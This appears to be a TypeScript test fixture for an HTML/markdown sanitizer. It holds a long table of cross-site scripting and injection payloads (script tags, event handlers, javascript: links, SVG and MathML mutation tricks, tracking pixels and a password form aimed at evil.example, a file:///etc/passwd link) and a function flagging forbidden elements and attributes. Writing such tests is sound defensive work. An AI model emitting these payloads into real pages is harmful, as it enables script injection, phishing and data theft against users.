/**
 * Texts that a model may be talked into writing, and what must not be in the page afterwards. For tests: in a DOM
 * without a browser, and in a browser.
 */

const RUN = 'window.hostile=1';

/** By what they try. */
export const HOSTILE: Record<string, string> = {
  'a script': `<script>${RUN}</script>`,
  'a script in a paragraph': `Words <script>${RUN}</script> and more`,
  'a script in a list in a quotation': `> - <script>${RUN}</script>`,
  'a script that is cut in two': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script in a comment that ends early': `<!--> <script>${RUN}</script> -->`,
  'a script after a closing comment': `<!-- --!><script>${RUN}</script> -->`,
  'a script in a CDATA section': `<![CDATA[<script>${RUN}</script>]]>`,
  'a processing instruction': `<?xml version="1.0"?><script>${RUN}</script>`,
  'a picture with a handler': `<img src=x onerror=${RUN}>`,
  'a picture with a handler and a slash': `<img/src=x/onerror=${RUN}>`,
  'a picture with a handler over lines': `<img\nsrc=x\nonerror\n=\n${RUN}>`,
  'a handler on any element': `<b onmouseover="${RUN}" onclick="${RUN}">b</b>`,
  'a handler in capitals': `<IMG SRC=x OnErRoR="${RUN}">`,
  'a details that opens by itself': `<details open ontoggle="${RUN}">x</details>`,
  'a video with a handler': `<video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  'a source with a handler': `<video><source onerror="${RUN}"></video>`,
  'a field that takes the focus': `<input autofocus onfocus=${RUN}>`,
  'a form that posts what is typed': `<form action="https://evil.example/"><input name=password><button>Sign in</button></form>`,
  'a button of another form': `<button form=compose formaction="javascript:${RUN}">Send</button>`,
  'a text area': `<textarea>type your token here</textarea>`,
  'a selection': `<select onchange=${RUN}><option>x</select>`,
  'a frame': `<iframe src="javascript:parent.hostile=1"></iframe>`,
  'a frame with its own document': `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  'an object': `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  'an embedded thing': `<embed src="javascript:${RUN}">`,
  'a base address': `<base href="https://evil.example/">`,
  'a redirection': `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  'a style sheet from elsewhere': `<link rel=stylesheet href="https://evil.example/a.css">`,
  'a style sheet': `<style>*{display:none}</style>words`,
  'a style sheet that imports': `<style>@import "https://evil.example/a.css";</style>`,
  'a style': `<p style="position:fixed;inset:0;background:url(https://evil.example/a.png)">x</p>`,
  'a style in a table': `<table><tr><td style="position:fixed" background="https://evil.example/b.png">x</td></tr></table>`,
  'a class of the console': `<div class="overlay dialog toast">x</div>`,
  'an id of the page': `<div id="app">x</div><a id="location" href="https://example.com">y</a>`,
  'a name that shadows the document': `<img name="getElementById"><a name="cookie" id="cookie">x</a><form name="body"></form>`,
  'a custom element': `<x-evil is="script">x</x-evil>`,
  'a template': `<template><script>${RUN}</script></template>`,
  'a slot of another shadow': `<slot name="x">x</slot>`,
  'a drawing with a script': `<svg><script>${RUN}</script></svg>`,
  'a drawing with a handler': `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x dur=1s>`,
  'a drawing with a link that is animated': `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>x</text></a></svg>`,
  'a drawing that uses another': `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  'HTML in a drawing': `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  'a style in a drawing that ends elsewhere': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'MathML with a link': `<math><mtext><a xlink:href="javascript:${RUN}">x</a></mtext></math>`,
  'MathML that becomes HTML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'a form in MathML': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'an attribute that ends in noscript': `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  'an attribute that ends in a title': `<title><p title="</title><img src=x onerror=${RUN}>">`,
  'an attribute over blocks': `<div title="\n\nwords ![x](y"onerror="${RUN}) $x$\n\n">after</div>`,
  'a link that runs': `[click](javascript:${RUN})`,
  'a link that runs, in capitals': `[click](JaVaScRiPt:${RUN})`,
  'a link that runs, with an entity': `[click](javascript&colon;${RUN}) [again](&#106;avascript:${RUN})`,
  'a link that runs, with a tab': `[click](java&Tab;script:${RUN}) [again](<java\tscript:${RUN}>)`,
  'a link that runs, with a line end': `<a href="java\nscript:${RUN}">click</a>`,
  'a link that runs, with a control character': `<a href="\u0001javascript:${RUN}">click</a>`,
  'a link that runs, by reference': `[click][x]\n\n[x]: javascript:${RUN}`,
  'a link that runs, in angle brackets': `<javascript:${RUN}>`,
  'a link that runs, in HTML': `<a href=javascript:${RUN}>click</a>`,
  'a link of VBScript': `[click](vbscript:msgbox(1))`,
  'a link to data': `[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaG9zdGlsZT0xPC9zY3JpcHQ+)`,
  'a link to a file': `[click](file:///etc/passwd)`,
  'a link to a blob': `[click](blob:https://example.com/1)`,
  'a link to another page of the console': `[click](#/env) [again](/v1/env) [and](..//..)`,
  'a link without a scheme': `[click](//evil.example/x)`,
  'a link with a name for a host': `[click](https://bank.example@evil.example/)`,
  'a link that says another host': `[https://bank.example/](https://evil.example/)`,
  'a link that opens this window': `<a href="https://evil.example" target="_top" rel="opener" ping="https://evil.example/p">x</a>`,
  'a link that downloads': `<a href="https://evil.example/x" download="x.exe">x</a>`,
  'a link whose title breaks out': `[click](https://example.com "a\\"onmouseover=\\"${RUN}")`,
  'a link whose address breaks out': `[click](https://example.com/"onmouseover="${RUN})`,
  'a picture that tells who reads': '![](https://evil.example/pixel.png?secret=1)',
  'a picture without a scheme': '![x](//evil.example/pixel.png)',
  'a picture in HTML':
    '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x" width=1 height=1>',
  'a picture of sizes':
    '<picture><source srcset="https://evil.example/pixel.png"><img src="data:image/png;base64,AA=="></picture>',
  'a picture that is a document': `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  'a picture that is a page': `![x](data:text/html,<script>${RUN}</script>)`,
  'a picture that runs': `![x](javascript:${RUN})`,
  'a picture whose words break out': `![x" onerror="${RUN}](https://example.com/a.png)`,
  'a film in a picture': '<img src=x dynsrc="https://evil.example/a" lowsrc="https://evil.example/b">',
  'a fence whose language breaks out': `\`\`\`"><img/src=x/onerror=${RUN}>\ncode\n\`\`\``,
  'code with HTML': `\`\`\`html\n<img src=x onerror=${RUN}>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  'code in a line with HTML': `\`<img src=x onerror=${RUN}>\``,
  'a table with HTML': `| a |\n|---|\n| <img src=x onerror=${RUN}> |`,
  'a heading with HTML': `# <img src=x onerror=${RUN}>`,
  'a cell over everything': '<table><tr><td colspan=99999 rowspan=99999>x</td></tr></table>',
  'a place of the renderer': '<div data-slot="1-2-3-0">x</div><span data-slot="">y</span>',
  'attributes that scripts read': `<div data-action="delete" data-testid="send" aria-label="Send" role="button" tabindex=0 contenteditable>x</div>`,
  'a formula that links': `$\\href{javascript:${RUN}}{x}$ $\\url{javascript:${RUN}}$`,
  'a formula that loads': '$\\includegraphics{https://evil.example/pixel.png}$',
  'a formula with HTML': `$\\htmlId{app}{x} \\htmlClass{overlay}{x} \\htmlStyle{position:fixed}{x} \\htmlData{a=b}{x}$`,
  'a formula with a tag': `$x<img src=x onerror=${RUN}>$ $$\\text{<script>${RUN}</script>}$$`,
  'a formula with a colour that is a style':
    '$\\color{red;position:fixed;inset:0}{x}$ $\\colorbox{red;background:url(https://evil.example)}{x}$',
  'a formula that never ends': '$\\def\\a{\\a\\a}\\a$ $\\edef\\b{\\b}\\b$ $\\newcommand{\\c}{\\c\\c}\\c$',
  'a formula as big as the page': '$\\rule{99999em}{99999em}$ $\\kern{-99999em}x$ $\\raisebox{99999em}{x}$',
  'null characters': `<scr\u0000ipt>${RUN}</scr\u0000ipt><img src=x one\u0000rror=${RUN}>`,
  'quotes of another kind': `<img src=\`x\` onerror=\`${RUN}\`>`,
  'an unclosed attribute': `<img src="x" onerror="${RUN}`,
  'an unclosed tag': `<img src=x onerror=${RUN} `,
  'entities for a tag': `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  'HTML in the name of a reference': `[<img src=x onerror=${RUN}>]: https://example.com\n\n[<img src=x onerror=${RUN}>]`,
  'a mail address with HTML': `<a@b.c"onmouseover="${RUN}>`,
  'an old element': `<marquee onstart=${RUN}>x</marquee><bgsound src="javascript:${RUN}"><isindex type=image src=1 onerror=${RUN}>`,
  'a dialog': '<dialog open>Your session ended. <a href="https://evil.example">Sign in</a></dialog>',
  'a popover': '<div popover id=x>x</div><b popovertarget=x>y</b>',
  'a portal': '<portal src="https://evil.example"></portal><fencedframe src="https://evil.example"></fencedframe>',
};

const ELEMENTS = new Set(
  'A ABBR B BLOCKQUOTE BR CAPTION CITE CODE DD DEL DETAILS DFN DIV DL DT EM H1 H2 H3 H4 H5 H6 HR I IMG INS KBD LI MARK OL P PRE Q RP RT RUBY S SAMP SMALL SPAN STRIKE STRONG SUB SUMMARY SUP TABLE TBODY TD TFOOT TH THEAD TR U UL VAR WBR'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  'align alt colspan dir href lang open rowspan src start title data-slot target rel referrerpolicy loading decoding'.split(
    ' ',
  ),
);

/** What is in a sanitized text that should not be; nothing else may find its way in. */
export function hostileParts(root: ParentNode): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    if (!ELEMENTS.has(element.tagName)) found.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.has(name)) found.push(`${element.tagName}.${name}=${value}`);
    }
    const href = element.getAttribute('href');
    if (href !== null && !/^(?:https?:\/\/[^@]*$|mailto:)/.test(href)) found.push(`href=${href}`);
    if (href !== null && element.tagName === 'A') {
      if (element.getAttribute('target') !== '_blank') found.push('a link in this window');
      if (!element.getAttribute('rel')?.includes('noopener')) found.push('a link that knows its opener');
    }
    const source = element.getAttribute('src');
    if (source !== null && !/^data:image\/(?:png|jpeg|gif|webp|avif|bmp);base64,/.test(source)) {
      if (!source.startsWith(`${location.origin}/`) && !source.startsWith(`blob:${location.origin}/`))
        found.push(`src=${source}`);
    }
  }
  return found;
}
